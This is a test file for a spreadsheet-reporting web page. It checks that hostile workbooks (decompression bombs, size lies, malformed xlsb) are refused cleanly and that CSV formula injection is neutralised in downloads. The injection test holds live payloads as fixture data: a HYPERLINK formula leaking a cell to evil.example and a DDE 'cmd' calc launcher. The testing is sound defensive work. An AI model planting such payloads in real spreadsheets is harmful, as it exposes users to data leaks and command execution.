// The built page (dist/web) in headless Chromium on hostile files from the corpus the CLI is
// tested on (scripts/hostile-corpus.py): decompression and repeat bombs, lying claims and the
// damaged xlsb workbooks that used to trap the WASM each give the CLI's message in words
// (never "a fault in sheetkpi"), and the page still reads a valid workbook right after; a CSV
// of formula-like labels downloads with every one of them neutralised, as the CLI writes it,
// and LibreOffice headless opens that download with no live formula;
// a read past the page's time budget stops with the importer's message and a fresh reader.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { nativeRun as cli, root } from './load.mjs';
import { openBrowser, openWorkbook, dist } from './web-harness.mjs';
import { libreOfficeAs } from './libreoffice.mjs';

const skip = !existsSync(join(dist, 'report.js'));
const browser = await openBrowser();
const work = mkdtempSync(join(tmpdir(), 'sheetkpi-web-hostile-'));
after(async () => {
  await browser.close();
  rmSync(work, { recursive: true, force: true });
});
const { page, errors } = await browser.open('/');
execFileSync('python3', [join(root, 'scripts/hostile-corpus.py'), work], { stdio: 'ignore' });

const hostile = [
  'xlsx-sst-unique-count.xlsx', // a shared-string count of four billion
  'ods-repeat-columns-rows.ods', // a cell repeated across 16,384 columns and a million rows
  'xls-dimensions-4e9-rows.xls', // a DIMENSIONS record claiming four billion rows
  'ods-repeat-10kb-string.ods', // a 10 KB string repeated ten million times
  'xlsx-size-lie-small.xlsx', // a part that inflates past its declared size
  'xlsb-unknown-relationship.xlsb', // calamine panics on it (a trap in WASM)
  'xlsb-bundle-length-lie.xlsb',
  'xlsb-short-bundle.xlsb',
];

for (const name of hostile) {
  test(`${name}: the CLI's message in words, and the page reads the next file`, { skip }, async () => {
    const file = join(work, name);
    const native = cli('report', file, '--format', 'json');
    assert.equal(native.status, 2, `the CLI refuses ${name}: ${native.stdout.slice(0, 200)}`);
    await openWorkbook(page, file);
    assert.equal(await page.isHidden('#import-error'), false, `${name} was read`);
    const shown = await page.textContent('#import-error');
    assert.doesNotMatch(shown, /fault in sheetkpi|unreachable|RuntimeError|panicked/i, shown);
    // The CLI's facts (its first line, after "sheetkpi: PATH: "), as the page words them.
    const facts = native.stderr.trim().split('\n')[0].replace(/^sheetkpi: [^:]*: /, '');
    assert.ok(shown.toLowerCase().includes(facts.slice(0, 40).toLowerCase()), `page: ${shown}\nCLI: ${facts}`);
    await openWorkbook(page, join(root, 'samples/campaigns.xlsx'));
    assert.equal(await page.isHidden('#import-error'), true, await page.textContent('#import-error'));
  });
}

test('formula-like labels are neutralised in the report CSV download, as the CLI writes it', { skip }, async () => {
  const file = join(work, 'injection.csv');
  writeFileSync(file, 'Channel,Campaign,Spend,Revenue\n"=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")",+cmd|\' /C calc\'!A0,100,-5\n@SUM(A1),-2+3,50,80\n');
  await openWorkbook(page, file);
  assert.equal(await page.isHidden('#import-error'), true, await page.textContent('#import-error'));
  const [dl] = await Promise.all([page.waitForEvent('download'), page.click('#download-csv')]);
  const saved = join(work, 'injection-report.csv');
  await dl.saveAs(saved);
  const text = readFileSync(saved, 'utf8');
  const native = cli('report', file, '--format', 'csv');
  assert.equal(native.status, 0, native.stderr);
  assert.equal(text, native.stdout);
  for (const live of ['=HYPERLINK', '+cmd', '@SUM', '-2+3']) {
    assert.ok(text.includes(`'${live}`), `${live} is neutralised:\n${text}`);
    assert.ok(!new RegExp(`(^|,|")\\${live.charAt(0)}${live.slice(1).replace(/[|+()]/g, '\\$&')}`, 'm').test(text), `${live} left live:\n${text}`);
  }
  assert.ok(text.split('\n').some((l) => l.split(',').includes('-5')), 'a negative number stays a number');
  // LibreOffice opens the raw labels with a live formula (the control: this check can fail)
  // and the downloaded report with none, its numbers still numbers.
  const raw = libreOfficeCells(file);
  assert.ok(raw.some((c) => c.includes('table:formula=')), `LibreOffice reads a live formula in the raw CSV:\n${raw.join('\n')}`);
  const cells = libreOfficeCells(saved);
  assert.deepEqual(cells.filter((c) => c.includes('table:formula=')), [], 'no live formula in the download');
  assert.ok(cells.some((c) => c.includes('office:value="-5"') && c.includes('office:value-type="float"')), 'LibreOffice reads -5 as a number');
});

/** The cells of a CSV as LibreOffice headless opens it (saved as flat ODS): each cell's start tag. */
function libreOfficeCells(csv) {
  return libreOfficeAs(csv, 'fods', work).match(/<table:table-cell[^>]*>/g) || [];
}

test('past the time budget the page stops the reader with the importer\'s message, then reads the next file', { skip }, async () => {
  // ?timeBudget=1: one second per request; 2,000,000 rows take several times that in WASM
  // (400,000 took 0.7 s in Node once plain numbers were read without copies).
  const slow = await browser.open('/?timeBudget=1');
  const file = join(work, 'long.csv');
  const rows = Array.from({ length: 2_000_000 }, (_, i) => `Search,${i},${2 * i}`);
  writeFileSync(file, `Channel,Spend,Revenue\n${rows.join('\n')}\n`);
  await openWorkbook(slow.page, file);
  const shown = await slow.page.textContent('#import-error');
  assert.match(shown, /took longer than 1 s/, shown);
  assert.match(shown, /save a copy holding only the rows and columns/, shown);
  await openWorkbook(slow.page, join(root, 'samples/campaigns.xlsx'));
  assert.equal(await slow.page.isHidden('#import-error'), true, await slow.page.textContent('#import-error'));
  assert.deepEqual(slow.errors, []);
});

test('no page errors', { skip }, () => {
  assert.deepEqual(errors, []);
});
